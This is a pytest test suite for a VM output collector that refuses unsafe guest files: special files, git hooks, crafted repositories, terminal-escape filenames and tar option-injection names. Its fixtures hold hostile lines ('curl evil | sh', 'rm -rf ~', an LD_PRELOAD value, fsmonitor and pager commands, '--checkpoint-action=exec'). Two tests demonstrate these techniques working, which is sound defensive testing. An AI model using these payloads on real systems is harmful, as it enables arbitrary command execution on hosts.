import hashlib
import os
import pty
import stat
import subprocess
import sys
import time
import unicodedata

import pytest

from vmiso.errors import OutputError
from vmiso.host import outputs


def mark(path, mode):
    """Mark a host file as 9p's mapped mode does for what the guest created."""
    os.setxattr(path, outputs.VIRTFS_MODE, mode.to_bytes(4, sys.byteorder))


@pytest.fixture
def share(tmp_path):
    root = tmp_path / "share"
    root.mkdir()
    return root


def collect(share, dest, **limits):
    return outputs.collect(share, dest, max_bytes=limits.get("max_bytes", 10**6),
                           max_files=limits.get("max_files", 100))


def test_regular_files_copied_with_manifest(share, tmp_path):
    (share / "a.txt").write_text("alpha")
    (share / "sub").mkdir()
    (share / "sub" / "b.bin").write_bytes(b"\x00\x01")
    mark(share / "a.txt", stat.S_IFREG | 0o755)
    dest = tmp_path / "dest"
    report = collect(share, dest)
    assert [f.path for f in report.files] == ["a.txt", "sub/b.bin"]
    assert (dest / "a.txt").read_text() == "alpha"
    assert stat.S_IMODE((dest / "a.txt").stat().st_mode) == 0o644  # no exec bit carried over
    manifest = (dest / "MANIFEST").read_text().splitlines()
    assert manifest[0] == hashlib.sha256(b"alpha").hexdigest() + "  a.txt"
    assert report.refused == []


@pytest.mark.parametrize("mode, reason", [
    (stat.S_IFLNK | 0o777, "symbolic link"),
    (stat.S_IFIFO | 0o644, "FIFO"),
    (stat.S_IFCHR | 0o644, "device"),
    (stat.S_IFREG | stat.S_ISUID | 0o755, "setuid"),
    (stat.S_IFREG | stat.S_ISGID | 0o755, "setgid"),
])
def test_guest_special_files_refused(share, tmp_path, mode, reason):
    (share / "bad").write_text("/etc/shadow")
    mark(share / "bad", mode)
    (share / "good").write_text("ok")
    report = collect(share, tmp_path / "dest")
    assert [f.path for f in report.files] == ["good"]
    assert report.refused[0][0] == "bad" and reason in report.refused[0][1]
    assert not (tmp_path / "dest" / "bad").exists()


def test_host_symlink_and_fifo_refused(share, tmp_path):
    os.symlink("/etc/passwd", share / "link")
    os.mkfifo(share / "fifo")
    report = collect(share, tmp_path / "dest")
    assert sorted(p for p, _ in report.refused) == ["fifo", "link"]
    assert report.files == []


def test_control_characters_and_reserved_name_refused(share, tmp_path):
    (share / "evil\nname").write_text("x")
    (share / "MANIFEST").write_text("forged")
    report = collect(share, tmp_path / "dest")
    reasons = dict(report.refused)
    assert "control characters" in reasons["evil\nname"]
    assert "MANIFEST" in reasons["MANIFEST"]
    assert (tmp_path / "dest" / "MANIFEST").read_text() == ""


def test_limits(share, tmp_path):
    (share / "big").write_bytes(b"x" * 2000)
    with pytest.raises(OutputError, match="more than 1000 bytes"):
        collect(share, tmp_path / "d1", max_bytes=1000)
    for i in range(5):
        (share / f"f{i}").write_text("x")
    with pytest.raises(OutputError, match="more than 3 files"):
        collect(share, tmp_path / "d2", max_files=3)
    assert not (tmp_path / "d1").exists() and not (tmp_path / "d2").exists()


def test_destination_rules(tmp_path):
    outputs.check_destination(tmp_path / "new")
    (tmp_path / "empty").mkdir()
    outputs.check_destination(tmp_path / "empty")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep.txt").write_text("mine")
    with pytest.raises(OutputError, match="not empty"):
        outputs.check_destination(tmp_path / "full")
    (tmp_path / "file").write_text("x")
    with pytest.raises(OutputError, match="not a directory"):
        outputs.check_destination(tmp_path / "file")
    with pytest.raises(OutputError, match="parent directory does not exist"):
        outputs.check_destination(tmp_path / "no" / "such")


def test_existing_file_never_overwritten(share, tmp_path):
    (share / "keep.txt").write_text("guest")
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "keep.txt").write_text("mine")
    with pytest.raises(OutputError, match="keep.txt exists already"):
        collect(share, dest)
    assert (dest / "keep.txt").read_text() == "mine"


def test_files_that_host_tools_would_run_are_refused_at_any_depth(share, tmp_path):
    (share / ".git" / "hooks").mkdir(parents=True)
    (share / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    (share / "proj" / ".vscode").mkdir(parents=True)
    (share / "proj" / ".vscode" / "tasks.json").write_text("{}")
    (share / "proj" / ".envrc").write_text("rm -rf ~\n")
    (share / "launch.desktop").write_text("[Desktop Entry]\nExec=sh\n")
    (share / "proj" / "notes.git.txt").write_text("fine")
    report = collect(share, tmp_path / "dest")
    refused = dict(report.refused)
    assert set(refused) == {".git", "proj/.vscode", "proj/.envrc", "launch.desktop"}
    assert "git runs hooks" in refused[".git"] and "--accept-tool-files" in refused[".git"]
    assert [f.path for f in report.files] == ["proj/notes.git.txt"]
    assert not (tmp_path / "dest" / ".git").exists()
    accepted = outputs.collect(share, tmp_path / "dest2", max_bytes=10**6, max_files=100, accept_tool_files=True)
    assert accepted.refused == [] and (tmp_path / "dest2" / ".git" / "hooks" / "post-checkout").exists()


def read_deep(root, names, last):
    """The bytes of ``last`` under ``root``/``names``..., read by descriptor (the path is too long for open)."""
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    for name in names:
        child = os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fd)
        os.close(fd)
        fd = child
    try:
        inner = os.open(last, os.O_RDONLY | os.O_NOFOLLOW, dir_fd=fd)
        try:
            return os.read(inner, 100)
        finally:
            os.close(inner)
    finally:
        os.close(fd)


def test_a_tree_beyond_the_recursion_limit_and_path_max_is_collected(share, tmp_path, deep_tree):
    depth = 3000
    assert sys.getrecursionlimit() < depth
    names = deep_tree(share, depth, "d" * 20, file_every=1000)  # 63,000 bytes of path
    dest = tmp_path / "dest"
    report = collect(share, dest, max_files=10_000)
    # "d..." sorts before "f": the deepest file comes first
    assert [f.path for f in report.files] == ["/".join([*names[:n], "f"]) for n in (3000, 2000, 1000)]
    assert read_deep(dest, names, "f") == b"3000"
    manifest = (dest / "MANIFEST").read_text().splitlines()
    assert manifest[0] == hashlib.sha256(b"3000").hexdigest() + "  " + "/".join([*names, "f"])


def test_names_of_255_bytes_are_collected(share, tmp_path):
    long = "n" * 255
    (share / long).mkdir()
    (share / long / long).write_text("deep")
    report = collect(share, tmp_path / "dest")
    assert [f.path for f in report.files] == [f"{long}/{long}"]
    assert (tmp_path / "dest" / long / long).read_text() == "deep"


def test_empty_directories_and_refused_entries_count_against_max_files(share, tmp_path):
    for i in range(30):
        (share / f"empty{i}").mkdir()
    with pytest.raises(OutputError, match="more than 20 files"):
        collect(share, tmp_path / "d1", max_files=20)
    for i in range(30):
        (share / f"empty{i}").rmdir()
        os.mkfifo(share / f"fifo{i}")
    with pytest.raises(OutputError, match="more than 20 files"):
        collect(share, tmp_path / "d2", max_files=20)


def test_path_lengths_count_against_max_bytes(share, tmp_path, deep_tree):
    # An empty file 5,000 bytes down: MANIFEST and the report would carry a path the job chose.
    names = deep_tree(share, 100, "p" * 49)
    fd = os.open(share, os.O_RDONLY | os.O_DIRECTORY)
    for name in names:
        fd, old = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd), fd
        os.close(old)
    os.close(os.open("empty", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
    os.close(fd)
    with pytest.raises(OutputError, match="more than 4000 bytes"):
        collect(share, tmp_path / "dest", max_bytes=4000, max_files=1000)


def test_a_subdirectory_swapped_for_a_link_during_collect_is_not_followed(share, tmp_path, monkeypatch):
    (share / "sub").mkdir()
    (share / "sub" / "result.txt").write_text("guest")
    dest, elsewhere = tmp_path / "dest", tmp_path / "elsewhere"
    elsewhere.mkdir()
    real_copy = outputs._copy

    def racing_copy(*args, **kwargs):
        # Another local user, between vmiso's mkdir of dest/sub and its write into it.
        if not (dest / "moved").exists():
            os.rename(dest / "sub", dest / "moved")
            os.symlink(elsewhere, dest / "sub")
        return real_copy(*args, **kwargs)
    monkeypatch.setattr(outputs, "_copy", racing_copy)
    collect(share, dest)
    assert list(elsewhere.iterdir()) == []
    assert (dest / "moved" / "result.txt").read_text() == "guest"


def test_an_output_directory_replaced_by_a_link_is_refused(share, tmp_path):
    (share / "result.txt").write_text("guest")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    dest = tmp_path / "dest"
    outputs.check_destination(dest)  # new at the start of the run...
    dest.symlink_to(elsewhere)  # ...and a link by its end
    with pytest.raises(OutputError, match="no longer a directory"):
        collect(share, dest)
    assert list(elsewhere.iterdir()) == []


def test_a_destination_directory_moved_during_a_deep_collect_is_never_written_through(share, tmp_path,
                                                                                        monkeypatch, deep_tree):
    # Deeper than the descriptors vmiso keeps: climbing back to c/c/c/c/c for "z" re-descends
    # into --output by name, and finds that dest/c is no longer the directory it made.
    names = deep_tree(share, 40, "c")
    fd = os.open(share.joinpath(*names), os.O_RDONLY | os.O_DIRECTORY)
    os.close(os.open("deep", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
    os.close(fd)
    share.joinpath(*names[:5], "z").write_text("late")
    dest = tmp_path / "dest"
    real_copy = outputs._copy

    def moving_copy(*args, **kwargs):
        if not (dest / "moved").exists():
            os.rename(dest / "c", dest / "moved")
            dest.joinpath(*names[:5]).mkdir(parents=True)  # same names, other directories
        return real_copy(*args, **kwargs)
    monkeypatch.setattr(outputs, "_copy", moving_copy)
    with pytest.raises(OutputError, match="moved or replaced"):
        collect(share, dest)
    assert list(dest.joinpath(*names[:5]).iterdir()) == []


# --- what host tools would obey: repositories by what they hold, names a terminal or a shell acts on ---


def git(cwd, *args, env=None, **kwargs):
    """Real git, with no configuration of this host's (only what the directory holds)."""
    return subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, timeout=30, **kwargs)


@pytest.fixture
def git_env(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    return {"PATH": os.environ["PATH"], "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1", "LANG": "C",
            "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@a", "GIT_COMMITTER_NAME": "a",
            "GIT_COMMITTER_EMAIL": "a@a"}


def hostile_repository(where, marker, env):
    """A bare repository called ``where`` (no .git anywhere) whose config makes `git status`
    run a command (core.fsmonitor, with the work tree above it) and `git log` another (core.pager)."""
    assert git(where.parent, "init", "-q", "--bare", where.name, env=env).returncode == 0
    tree_id = git(where, "mktree", env=env, input=b"").stdout.decode().strip()
    commit = git(where, "commit-tree", tree_id, "-m", "x", env=env).stdout.decode().strip()
    assert git(where, "update-ref", "refs/heads/main", commit, env=env).returncode == 0
    assert git(where, "symbolic-ref", "HEAD", "refs/heads/main", env=env).returncode == 0
    for key, value in (("core.bare", "false"), ("core.worktree", ".."),
                       ("core.fsmonitor", f"touch {marker}-status; false"),
                       ("core.pager", f"touch {marker}-log; cat")):
        assert git(where, "config", key, value, env=env).returncode == 0


def git_everywhere(root, env):
    """`git status`, and `git log` on a terminal (where git starts its pager), in every directory of ``root``."""
    for directory in [root, *(p for p in root.rglob("*") if p.is_dir())]:
        git(directory, "status", env=env)
        primary, secondary = pty.openpty()
        try:
            subprocess.run(["git", "log"], cwd=directory, env=env, stdin=secondary, stdout=secondary,
                           stderr=secondary, timeout=30)
        finally:
            os.close(primary)
            os.close(secondary)


def test_a_crafted_repository_under_another_name_makes_git_run_its_commands(tmp_path, git_env):
    # What the refusal below stops: the tree is dangerous as it stands.
    plain = tmp_path / "plain"
    plain.mkdir()
    hostile_repository(plain / "notes", tmp_path / "ran", git_env)
    git_everywhere(plain, git_env)
    assert (tmp_path / "ran-status").exists() and (tmp_path / "ran-log").exists()


def test_repositories_are_refused_by_what_they_hold_at_any_depth(share, tmp_path, git_env):
    (share / "results").mkdir()
    hostile_repository(share / "results" / "notes", tmp_path / "ran", git_env)
    (share / "results" / "table.csv").write_text("a,b\n")
    (share / "settings").mkdir()  # a config that git would take as a repository's, in a plain directory
    (share / "settings" / "config").write_text("# harmless\n" * 10_000 + "[Core]\n\tfsmonitor = sh evil\n")
    (share / "app").mkdir()
    (share / "app" / "config").write_text("[server]\nport = 8080\n")  # any other config is fine
    dest = tmp_path / "dest"
    report = collect(share, dest, max_files=1000)
    refused = dict(report.refused)
    assert set(refused) == {"results/notes", "settings"}
    assert "git repository under another name" in refused["results/notes"]
    assert "--accept-tool-files" in refused["results/notes"]
    assert "git config" in refused["settings"]
    assert [f.path for f in report.files] == ["app/config", "results/table.csv"]
    git_everywhere(dest, git_env)
    assert not (tmp_path / "ran-status").exists() and not (tmp_path / "ran-log").exists()
    accepted = outputs.collect(share, tmp_path / "dest2", max_bytes=10**6, max_files=1000, accept_tool_files=True)
    assert accepted.refused == [] and (tmp_path / "dest2" / "results" / "notes" / "HEAD").exists()


def test_out_itself_laid_out_as_a_repository_loses_what_makes_it_one(tmp_path, git_env):
    share = tmp_path / "repo"
    hostile_repository(share, tmp_path / "ran", git_env)
    os.rename(share / "refs", share / "kept")  # objects/ alone, a directory like any other, is copied
    os.mkdir(share / "refs")
    dest = tmp_path / "dest"
    report = collect(share, dest, max_files=1000)
    refused = dict(report.refused)
    assert {"HEAD", "config"} <= set(refused) and "/out itself is a git repository" in refused["HEAD"]
    assert not (dest / "HEAD").exists() and not (dest / "config").exists()
    git_everywhere(dest, git_env)
    assert not (tmp_path / "ran-status").exists() and not (tmp_path / "ran-log").exists()


def test_other_tool_directories_stay_refused_whatever_their_case(share, tmp_path):
    for name in (".hg", ".GIT", ".sl", ".jj"):
        (share / name).mkdir()
        (share / name / "hgrc").write_text("[hooks]\npre-status = sh evil\n")
    (share / ".env").write_text("LD_PRELOAD=/tmp/evil.so\n")
    report = collect(share, tmp_path / "dest")
    assert sorted(p for p, _ in report.refused) == [".GIT", ".env", ".hg", ".jj", ".sl"]
    assert report.files == []


HOSTILE_NAMES = [
    "\x9b31mred",  # C1 CSI
    "\x1b]0;title\x07",  # C0
    "invoice\u202egpj.exe",  # right-to-left override
    "a\u2066b\u2069",  # isolates
    "mark\u200e", "mark\u200f", "arabic\u061c",
    "line\u2028break", "para\u2029break",
    "--checkpoint=1", "--checkpoint-action=exec=sh x.sh",
]


def terminal_obeys(data: bytes) -> list[str]:
    """The characters in ``data`` a terminal acts on or that reorder what it shows (tab and newline aside)."""
    text = data.decode("utf-8", "surrogateescape")
    return [c for c in text if c not in "\t\n" and (ord(c) < 32 or 0x7F <= ord(c) <= 0x9F
                                                     or unicodedata.category(c) in ("Cf", "Zl", "Zp"))]


def shell(command, cwd):
    return subprocess.run(command, shell=True, cwd=cwd, capture_output=True, timeout=30,
                          env={"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"})


def test_names_that_a_shell_glob_turns_into_options_run_a_guest_script(tmp_path):
    # What the refusal below stops: `tar cf x.tar *` among these names runs x.sh.
    plain = tmp_path / "plain"
    plain.mkdir()
    for name in ("--checkpoint=1", "--checkpoint-action=exec=sh x.sh"):
        (plain / name).write_text("")
    (plain / "x.sh").write_text(f"touch {tmp_path / 'ran'}\n")
    shell("tar cf x.tar *", plain)
    assert (tmp_path / "ran").exists()


def test_names_a_terminal_or_a_command_line_would_obey_are_refused(share, tmp_path):
    for name in HOSTILE_NAMES:
        (share / name).write_text("x")
    (share / "sub").mkdir()
    (share / "sub" / "-rf").write_text("x")  # at any depth
    (share / "x.sh").write_text(f"touch {tmp_path / 'ran'}\n")
    (share / "ok-name.txt").write_text("x")  # a '-' elsewhere is fine
    dest = tmp_path / "dest"
    report = collect(share, dest)
    refused = dict(report.refused)
    assert set(refused) == {*HOSTILE_NAMES, "sub/-rf"}
    assert "control characters" in refused["\x9b31mred"]
    assert "bidirectional" in refused["invoice\u202egpj.exe"]
    assert "separator" in refused["line\u2028break"]
    assert "begins with '-'" in refused["--checkpoint=1"]
    assert [f.path for f in report.files] == ["ok-name.txt", "x.sh"]
    manifest = (dest / "MANIFEST").read_bytes()
    assert terminal_obeys(manifest) == []
    checked = shell("sha256sum -c MANIFEST", dest)
    assert checked.returncode == 0, checked.stderr
    assert terminal_obeys(checked.stdout + checked.stderr) == []
    assert shell("tar cf x.tar *", dest).returncode == 0
    assert not (tmp_path / "ran").exists()


# --- where outputs land: the analyst's own directory only ---


def test_an_output_directory_others_can_write_is_refused(tmp_path):
    for mode in (0o775, 0o757, 0o777, 0o1777):
        dest = tmp_path / f"shared-{mode:o}"
        dest.mkdir()
        dest.chmod(mode)
        with pytest.raises(OutputError, match="writable by others") as err:
            outputs.check_destination(dest)
        assert "only you can write" in err.value.hint
    mine = tmp_path / "mine"
    mine.mkdir()
    mine.chmod(0o755)
    outputs.check_destination(mine)


@pytest.mark.root(reason="makes a directory another user owns")
def test_an_output_directory_of_another_user_is_refused(tmp_path):
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    os.chown(theirs, 65534, 65534)  # nobody's
    with pytest.raises(OutputError, match="is not yours"):
        outputs.check_destination(theirs)


def test_an_output_directory_made_by_someone_else_while_the_job_ran_is_refused(share, tmp_path):
    (share / "result.txt").write_text("guest")
    dest = tmp_path / "dest"
    outputs.check_destination(dest)  # new at the start of the run...
    dest.mkdir()  # ...and by its end made by another local user, open to them
    dest.chmod(0o777)
    if os.geteuid() == 0:
        os.chown(dest, 65534, 65534)
    with pytest.raises(OutputError, match="made or replaced while the job ran"):
        collect(share, dest)
    assert list(dest.iterdir()) == []


def test_the_record_file_is_opened_once_and_never_through_a_link(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("mine")
    (tmp_path / "link.json").symlink_to(victim)
    with pytest.raises(OutputError, match="exists already"):
        outputs.open_record(tmp_path / "link.json")
    with pytest.raises(OutputError, match="its directory does not exist"):
        outputs.open_record(tmp_path / "no" / "run.json")
    fd = outputs.open_record(tmp_path / "run.json")
    os.rename(tmp_path / "run.json", tmp_path / "moved.json")  # swapped during the run
    (tmp_path / "run.json").symlink_to(victim)
    os.write(fd, b"{}")
    os.close(fd)
    assert victim.read_text() == "mine" and (tmp_path / "moved.json").read_text() == "{}"


def test_a_repository_split_by_commondir_is_refused_in_both_halves(share, tmp_path, git_env):
    # A linked worktree's layout: HEAD here, objects/, refs/ and config where commondir points.
    hostile_repository(share / "common", tmp_path / "ran", git_env)
    os.remove(share / "common" / "HEAD")
    (share / "wt").mkdir()
    (share / "wt" / "HEAD").write_text("ref: refs/heads/main\n")
    (share / "wt" / "commondir").write_text("../common\n")
    report = collect(share, tmp_path / "dest", max_files=1000)
    refused = dict(report.refused)
    assert set(refused) == {"common", "wt"}
    assert "git config" in refused["common"] and "git repository" in refused["wt"]


def test_a_huge_config_is_taken_as_a_repositorys_unread(tmp_path):
    # A sparse 8 TiB "config" would be read to its end before any size was counted.
    (tmp_path / "config").touch()
    os.truncate(tmp_path / "config", 8 * 1024**4)
    fd = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        started = time.monotonic()
        assert "config" in outputs.repository_markers(fd)
        assert time.monotonic() - started < 1
    finally:
        os.close(fd)


def test_repository_names_are_matched_whatever_their_case(tmp_path):
    # Copied to a case-insensitive file system (exFAT, APFS, a Windows share), git opens
    # "Head", "REFS" and "Config" as HEAD, refs and config.
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "Head").write_text("ref: refs/heads/main\n")
    (repo / "REFS").mkdir()
    (repo / "Config").write_text("[CORE]\n\tfsmonitor = sh evil\n")
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "Objects").mkdir()  # no HEAD under any case: a directory like any other
    (plain / "CONFIG").write_text("[server]\nport = 8080\n")
    for path, expected in ((repo, {"Head", "Config"}), (plain, set())):
        fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
        try:
            assert outputs.repository_markers(fd) == expected
        finally:
            os.close(fd)


def test_a_copy_takes_the_checked_size_and_no_more(tmp_path):
    # The limits were counted from the first walk's sizes: a file longer than that now
    # (or shorter) is an error, never copied to its end.
    (tmp_path / "f").write_bytes(b"x" * 100)
    for planned, expected in ((100, 100), (99, None), (101, None)):
        fd_in = os.open(tmp_path / "f", os.O_RDONLY)
        fd_out = os.open(tmp_path / f"copy{planned}", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        try:
            copied = outputs._copy(fd_in, fd_out, planned)
        finally:
            os.close(fd_in)
        assert (copied[0] if copied else None) == expected
    assert (tmp_path / "copy99").stat().st_size == 99  # it stopped at the size it was given
